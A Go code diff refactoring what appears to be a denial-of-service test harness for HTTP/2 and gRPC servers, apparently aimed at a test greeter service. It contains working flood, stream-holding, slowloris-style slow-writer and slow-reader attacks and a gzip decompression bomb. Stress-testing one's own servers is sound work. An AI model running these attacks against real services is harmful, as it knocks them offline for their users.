@@ -12,7 +12,6 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 )
 
 const (
@@ -48,8 +47,8 @@ var attacks = map[string]attack{
 	"settings-flood":     {1, 3000, flood(func(w *wire) error { return w.framer.WriteSettings() })},
 	"ping-flood":         {1, 3000, flood(func(w *wire) error { return w.framer.WritePing(false, [8]byte{}) })},
 	"empty-data-flood":   {1, 3000, flood(emptyData)},
-	"window-of-zero":     {1, 100, hold(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})},
-	"never-ending-calls": {1, 100, neverEnding},
+	"window-of-zero":     {1, 100, hold(sayHello, whole(0, ada), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})},
+	"never-ending-calls": {1, 100, hold(greetBidi, nil)},
 	"slow-writer":        {1, 100, slowWriter},
 	"slow-reader":        {1, 50, slowReader},
 }
@@ -79,16 +78,7 @@ func calls(body []byte, more ...string) func(*attacker) error {
 }
 
 // bomb is a message of 64 MiB of zeros, compressed a thousandfold.
-var bomb = sync.OnceValue(func() []byte {
-	var small bytes.Buffer
-	out, _ := gzip.NewWriterLevel(&small, gzip.BestCompression)
-	zeros := make([]byte, 1<<20)
-	for range 64 {
-		_, _ = out.Write(zeros)
-	}
-	_ = out.Close()
-	return small.Bytes()
-})
+var bomb = sync.OnceValue(func() []byte { return gzippedTimes(64, make([]byte, 1<<20), gzip.BestCompression) })
 
 func bombs(a *attacker) error { return calls(whole(1, bomb()), "grpc-encoding", "gzip")(a) }
 
@@ -144,8 +134,9 @@ func emptyData(w *wire) error {
 	return w.framer.WriteData(1, false, nil)
 }
 
-// hold opens connections, calls on each, and lets nothing of the answers through.
-func hold(settings ...http2.Setting) func(*attacker) error {
+// hold opens connections and calls on each, which do not end: their message does not come, where there is
+// none, or the settings let nothing of the answers through.
+func hold(path string, message []byte, settings ...http2.Setting) func(*attacker) error {
 	return func(a *attacker) error {
 		for a.wait(1) {
 			w, err := a.dial(settings...)
@@ -154,11 +145,14 @@ func hold(settings ...http2.Setting) func(*attacker) error {
 			}
 			defer w.Close() // at the end of the attack, all of them
 			for range heldStreams {
-				id, err := w.open(sayHello)
+				id, err := w.open(path)
 				if err != nil {
 					return err
 				}
-				if err := w.do(func() error { return w.framer.WriteData(id, true, whole(0, ada)) }); err != nil {
+				if message == nil {
+					continue
+				}
+				if err := w.do(func() error { return w.framer.WriteData(id, true, message) }); err != nil {
 					return err
 				}
 			}
@@ -178,66 +172,46 @@ func (a *attacker) held(w *wire) {
 	}()
 }
 
-// neverEnding opens streams whose handler waits for a message that does not come.
-func neverEnding(a *attacker) error {
+// sockets opens connections until the end, does something with all there are, the last one being new, and holds
+// them.
+func (a *attacker) sockets(each func(all []net.Conn)) error {
+	var all []net.Conn
+	defer func() {
+		for _, socket := range all {
+			_ = socket.Close()
+		}
+	}()
 	for a.wait(1) {
-		w, err := a.dial()
+		socket, err := net.DialTimeout("tcp", a.address, patience)
 		if err != nil {
 			return err
 		}
-		defer w.Close()
-		for range heldStreams {
-			if _, err := w.open(greetBidi); err != nil {
-				return err
-			}
-		}
-		a.held(w)
+		all = append(all, socket)
+		each(all)
 	}
 	return nil
 }
 
 // slowWriter opens connections that say their preface a byte at a time.
 func slowWriter(a *attacker) error {
-	var all []net.Conn
-	defer func() {
-		for _, socket := range all {
-			_ = socket.Close()
-		}
-	}()
-	for a.wait(1) {
-		socket, err := net.DialTimeout("tcp", a.address, patience)
-		if err != nil {
-			return err
-		}
-		all = append(all, socket)
+	return a.sockets(func(all []net.Conn) {
 		for i := len(all) - 1; i >= max(0, len(all)-len(http2.ClientPreface)); i-- {
 			_, _ = all[i].Write([]byte{http2.ClientPreface[len(all)-1-i]})
 		}
-	}
-	return nil
+	})
 }
 
 // slowReader opens connections with a large window that ask for much and read nothing of it.
 func slowReader(a *attacker) error {
 	message := whole(0, append([]byte{0x0a, 0xe8, 0x07}, bytes.Repeat([]byte{'a'}, 1000)...))
-	var all []net.Conn
-	defer func() {
-		for _, socket := range all {
-			_ = socket.Close()
-		}
-	}()
-	for a.wait(1) {
-		socket, err := net.DialTimeout("tcp", a.address, patience)
-		if err != nil {
-			return err
-		}
-		all = append(all, socket)
+	return a.sockets(func(all []net.Conn) {
+		socket := all[len(all)-1]
 		_ = socket.(*net.TCPConn).SetReadBuffer(4096)
-		w := &wire{Conn: socket, stream: 1}
-		w.framer, w.encoder = http2.NewFramer(socket, nil), hpack.NewEncoder(&w.fields)
 		_ = socket.SetWriteDeadline(time.Now().Add(time.Second))
-		_, _ = socket.Write([]byte(http2.ClientPreface))
-		_ = w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
+		w, err := preface(socket, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
+		if err != nil {
+			return // what was sent is held all the same
+		}
 		_ = w.framer.WriteWindowUpdate(0, 1<<30)
 		id, err := w.open(greetBidi)
 		for range 60 {
@@ -246,6 +220,5 @@ func slowReader(a *attacker) error {
 			}
 			err = w.framer.WriteData(id, false, message)
 		}
-	}
-	return nil
+	})
 }
